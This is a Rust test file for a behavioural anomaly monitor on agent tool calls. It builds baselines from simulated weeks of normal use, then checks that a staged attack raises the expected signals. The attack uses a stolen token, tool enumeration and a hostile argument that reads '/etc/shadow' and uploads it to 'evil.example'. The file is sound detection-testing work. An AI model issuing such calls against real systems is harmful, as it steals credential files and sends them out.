//! A scripted workload of several subjects over simulated weeks (the clock is the events'
//! time) builds baselines; the normal traffic after learning should raise (almost) nothing,
//! and an attack sequence raises the signals it should.
use std::{net::IpAddr, sync::Arc};

use serde_json::{Value, json};

use super::*;
use crate::{
    store::tests::Dir,
    vocab::{Process, Signal, Target},
};

/// Monday 2026-01-05 00:00 UTC.
const MONDAY: u64 = 1_767_571_200;
const DAY: u64 = 86_400;

fn config(days: u64, requests: u64) -> Behaviour {
    Behaviour {
        mode: BehaviourMode::Enforce,
        learn_days: days,
        learn_requests: requests,
    }
}

fn principal(sub: &str) -> Principal {
    Principal {
        sub: sub.into(),
        client_id: Some("agent-app".into()),
        iss: "https://idp.example".into(),
        scopes: vec![],
        claims: serde_json::Map::new(),
    }
}

/// A deterministic stream of numbers (xorshift).
struct Dice(u64);

impl Dice {
    fn next(&mut self, n: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 % n
    }
}

/// How one subject works.
struct Habit {
    sub: &'static str,
    tools: &'static [&'static str],
    addresses: &'static [&'static str],
    comm: &'static str,
    /// Hours (UTC) it works, and whether weekends too.
    hours: std::ops::Range<u64>,
    weekends: bool,
    /// Calls per session, at most.
    calls: u64,
}

const HABITS: [Habit; 5] = [
    Habit {
        sub: "alice",
        tools: &["read_file", "search", "list_dir"],
        addresses: &["10.0.0.5"],
        comm: "python3",
        hours: 9..17,
        weekends: false,
        calls: 6,
    },
    Habit {
        sub: "bob",
        tools: &["deploy", "logs", "status"],
        addresses: &["10.0.1.7", "10.0.1.8"],
        comm: "node",
        hours: 7..19,
        weekends: true,
        calls: 4,
    },
    Habit {
        sub: "carol",
        tools: &["query", "chart"],
        addresses: &["2001:db8:1:2::10", "2001:db8:1:2::11"],
        comm: "python3",
        hours: 10..16,
        weekends: false,
        calls: 8,
    },
    Habit {
        sub: "dave",
        tools: &["sync"],
        addresses: &["10.0.2.9"],
        comm: "batch",
        hours: 1..4,
        weekends: true,
        calls: 20,
    },
    Habit {
        sub: "erin",
        tools: &["read_file", "search"],
        addresses: &["10.0.0.6"],
        comm: "python3",
        hours: 12..14,
        weekends: false,
        calls: 2,
    },
];

fn process(comm: &str) -> Process {
    Process {
        pid: 4242,
        uid: 1000,
        gid: 1000,
        comm: comm.into(),
        cgroup_id: 0,
    }
}

fn event<'a>(
    at: u64,
    action: &'a str,
    tool: Option<&'a str>,
    args: Option<&'a Value>,
    address: IpAddr,
    process: &'a Process,
) -> Event<'a> {
    Event {
        at,
        action,
        target: tool.map(|t| (Target::Tool, t)),
        arguments: args,
        address,
        process: Some(process),
    }
}

/// A monitor learning for `days` and `requests`, over a store of its own (removed with the
/// directory).
fn monitor(name: &str, days: u64, requests: u64) -> (Dir, Monitor) {
    let dir = Dir::new(name);
    let store = Arc::new(Store::open(&dir.state()).unwrap());
    let m = Monitor::new("files", config(days, requests), store).unwrap();
    (dir, m)
}

/// Judges and settles one request; its assessment.
fn request(m: &Monitor, p: &Principal, e: Event<'_>, permitted: bool) -> Assessment {
    let a = m.judge(&p.sub, [e]);
    m.settle(p, [e], &a, permitted);
    a
}

/// Plays `days` days of every habit from `start`; (requests judged after learning, those that
/// raised a signal, and the signals they raised).
fn workload(m: &Monitor, dice: &mut Dice, start: u64, days: u64) -> (u64, u64, Vec<String>) {
    let (mut judged, mut flagged, mut seen) = (0, 0, Vec::new());
    for day in 0..days {
        let midnight = start + day * DAY;
        let weekend = day % 7 >= 5;
        for h in &HABITS {
            if weekend && !h.weekends {
                continue;
            }
            let p = principal(h.sub);
            let proc_ = process(h.comm);
            for hour in h.hours.clone() {
                // Most hours have a session.
                if dice.next(10) < 2 {
                    continue;
                }
                // Now and then an hour early or late.
                let hour = match dice.next(40) {
                    0 => hour.saturating_sub(1),
                    1 => (hour + 1) % 24,
                    _ => hour,
                };
                let mut at = midnight + hour * 3_600 + dice.next(1_800);
                let mut address: IpAddr = h.addresses[dice.next(h.addresses.len() as u64) as usize]
                    .parse()
                    .unwrap();
                // Rarely from another address (a new lease, a laptop at home).
                if dice.next(150) == 0 {
                    address = IpAddr::from([10, 0, 9, dice.next(250) as u8]);
                }
                let mut events = vec![("initialize", None, None), ("tools/list", None, None)];
                for _ in 0..=dice.next(h.calls) {
                    let tool = h.tools[dice.next(h.tools.len() as u64) as usize];
                    let args = json!({"path": "/srv/data/report.txt", "limit": dice.next(100)});
                    events.push(("tools/call", Some(tool), Some(args)));
                }
                for (action, tool, args) in &events {
                    at += 1 + dice.next(4);
                    let e = event(at, action, *tool, args.as_ref(), address, &proc_);
                    let a = request(m, &p, e, true);
                    if !a.learning {
                        judged += 1;
                        if !a.signals.is_empty() {
                            flagged += 1;
                            seen.push(format!("{} {action} {tool:?}: {:?}", h.sub, a.signals));
                        }
                    }
                }
            }
        }
    }
    (judged, flagged, seen)
}

#[test]
fn normal_weeks_raise_almost_nothing_and_an_attack_raises_what_it_should() {
    let dir = Dir::new("behaviour-workload");
    let store = Arc::new(Store::open(&dir.state()).unwrap());
    let m = Monitor::new("files", config(7, 100), store.clone()).unwrap();
    let mut dice = Dice(0x9e37_79b9_7f4a_7c15);
    let (judged, flagged, seen) = workload(&m, &mut dice, MONDAY, 28);
    let rate = flagged as f64 / judged as f64;
    println!(
        "normal traffic after learning: {flagged} of {judged} requests raised a signal \
         (false-positive rate {:.3}%): {seen:?}",
        rate * 100.0
    );
    assert!(
        judged > 2_000,
        "the workload judges enough requests: {judged}"
    );
    assert!(rate < 0.01, "false-positive rate {rate}: {seen:?}");

    // The attack: alice's token, on a weekday (day 29, a Tuesday) at 03:00, from an address and
    // a program she never used.
    let alice = principal("alice");
    let curl = process("curl");
    let evil: IpAddr = "203.0.113.9".parse().unwrap();
    let mut at = MONDAY + 29 * DAY + 3 * 3_600;
    let a = request(
        &m,
        &alice,
        event(at, "tools/list", None, None, evil, &curl),
        true,
    );
    for s in [Signal::OffHours, Signal::NewAddress, Signal::NewProcess] {
        assert!(a.signals.contains(s), "{s:?} in {:?}", a.signals);
    }
    assert!(!a.learning);
    // Enumeration: every tool she knows and many she never called, within two minutes.
    let tools = [
        "read_file",
        "search",
        "list_dir",
        "deploy",
        "logs",
        "status",
        "query",
        "chart",
        "sync",
        "admin_users",
        "export_db",
    ];
    let mut last = Assessment::default();
    for (i, t) in tools.iter().enumerate() {
        at += 5;
        last = request(
            &m,
            &alice,
            event(at, "tools/call", Some(t), None, evil, &curl),
            true,
        );
        let expect_new = i >= 3;
        assert_eq!(
            last.signals.contains(Signal::NewTool),
            expect_new,
            "{t}: {:?}",
            last.signals
        );
    }
    assert!(
        last.signals.contains(Signal::Enumeration),
        "{:?}",
        last.signals
    );
    assert_eq!(last.score, 100, "so many signals reach the cap");

    // A burst of a tool she uses, the next day in her hours from her address and program.
    let home: IpAddr = "10.0.0.5".parse().unwrap();
    let python = process("python3");
    let args = json!({"path": "/srv/data/report.txt", "limit": 5});
    let at = MONDAY + 30 * DAY + 10 * 3_600;
    let mut spiked_at = None;
    for i in 0..60 {
        let e = event(
            at,
            "tools/call",
            Some("read_file"),
            Some(&args),
            home,
            &python,
        );
        let a = request(&m, &alice, e, true);
        if a.signals.contains(Signal::RateSpike) && spiked_at.is_none() {
            spiked_at = Some(i);
        }
        assert!(!a.signals.contains(Signal::NewAddress));
    }
    let spiked_at = spiked_at.expect("60 calls in a minute spike");
    println!("rate spike from call {}", spiked_at + 1);
    assert!(
        (9..40).contains(&spiked_at),
        "spiked at call {}",
        spiked_at + 1
    );

    // Probing: calls the policies refuse, then the next request shows the burst.
    let mut at = MONDAY + 30 * DAY + 11 * 3_600;
    for _ in 0..6 {
        at += 2;
        let e = event(at, "tools/call", Some("search"), None, home, &python);
        request(&m, &alice, e, false);
    }
    at += 2;
    let a = request(
        &m,
        &alice,
        event(at, "tools/call", Some("search"), None, home, &python),
        true,
    );
    assert!(a.signals.contains(Signal::DenialBurst), "{:?}", a.signals);

    // Arguments unlike hers: a key she never sent, then a huge value.
    let odd = json!({"path": "/etc/shadow", "upload_to": "https://evil.example"});
    at += 120;
    let a = request(
        &m,
        &alice,
        event(
            at,
            "tools/call",
            Some("read_file"),
            Some(&odd),
            home,
            &python,
        ),
        true,
    );
    assert_eq!(
        a.signals.iter().collect::<Vec<_>>(),
        vec![Signal::UnusualArguments]
    );
    let big = json!({"path": "x".repeat(10_000)});
    at += 60;
    let a = request(
        &m,
        &alice,
        event(
            at,
            "tools/call",
            Some("read_file"),
            Some(&big),
            home,
            &python,
        ),
        true,
    );
    assert!(
        a.signals.contains(Signal::UnusualArguments),
        "{:?}",
        a.signals
    );

    // The rest of the workload is still judged normal; bob never saw any of it.
    let bob = principal("bob");
    let b_addr: IpAddr = "10.0.1.7".parse().unwrap();
    let node = process("node");
    let e = event(
        MONDAY + 30 * DAY + 9 * 3_600,
        "tools/call",
        Some("deploy"),
        None,
        b_addr,
        &node,
    );
    assert!(request(&m, &bob, e, true).signals.is_empty());

    // Everything learned survives a restart (the store).
    m.flush().unwrap();
    let shown = m.show(Whose::Sub, "alice");
    drop(m);
    let again = Monitor::new("files", config(7, 100), store).unwrap();
    assert_eq!(again.show(Whose::Sub, "alice"), shown);
    let recent = &shown["baseline"]["recent"];
    assert!(recent.as_array().unwrap().len() >= 5, "{recent}");
    let client = again.show(Whose::Client, "agent-app");
    assert!(client["baseline"]["requests"].as_u64().unwrap() > judged);
}

#[test]
fn signals_count_only_after_the_learning_period_and_requests() {
    let (_dir, m) = monitor("behaviour-learning", 2, 10);
    let p = principal("alice");
    let pr = process("python3");
    let ip: IpAddr = "10.0.0.5".parse().unwrap();
    let other: IpAddr = "10.9.9.9".parse().unwrap();
    let call = |at, ip, tool| {
        request(
            &m,
            &p,
            event(at, "tools/call", Some(tool), None, ip, &pr),
            true,
        )
    };
    // Twenty requests on the first day: still learning (two days).
    for i in 0..20 {
        let a = call(MONDAY + 10 * 3_600 + i * 60, other, "new_each_time");
        assert!(a.learning && a.signals.is_empty());
    }
    // Day three: learned; a new address now counts.
    let a = call(MONDAY + 2 * DAY + 10 * 3_600, ip, "new_each_time");
    assert!(!a.learning);
    assert_eq!(
        a.signals.iter().collect::<Vec<_>>(),
        vec![Signal::NewAddress]
    );
    assert_eq!(a.score, Signal::NewAddress.weight());
}

#[test]
fn a_refused_request_teaches_nothing() {
    // A signal a policy refuses on must not be learned by trying again.
    let (_dir, m) = monitor("behaviour-refused", 0, 1);
    let p = principal("alice");
    let pr = process("python3");
    let ip: IpAddr = "10.0.0.5".parse().unwrap();
    request(
        &m,
        &p,
        event(MONDAY + 36_000, "tools/call", Some("a"), None, ip, &pr),
        true,
    );
    for i in 1..4 {
        let e = event(
            MONDAY + 36_000 + i * 600,
            "tools/call",
            Some("rm"),
            None,
            ip,
            &pr,
        );
        let a = request(&m, &p, e, false);
        assert!(
            a.signals.contains(Signal::NewTool),
            "try {i}: {:?}",
            a.signals
        );
    }
}

#[test]
fn a_burst_of_denials_is_not_learned_as_normal() {
    let (_dir, m) = monitor("behaviour-denials", 0, 1);
    let p = principal("alice");
    let pr = process("python3");
    let ip: IpAddr = "10.0.0.5".parse().unwrap();
    let e = |at| event(at, "tools/call", Some("a"), None, ip, &pr);
    request(&m, &p, e(MONDAY + 36_000), true);
    // Three bursts in three minutes: each one is flagged, none raises the bar for the next.
    for minute in 1..4 {
        let t = MONDAY + 36_000 + minute * 60;
        for i in 0..6 {
            request(&m, &p, e(t + i), false);
        }
        let a = request(&m, &p, e(t + 30), true);
        assert!(a.signals.contains(Signal::DenialBurst), "minute {minute}");
    }
}
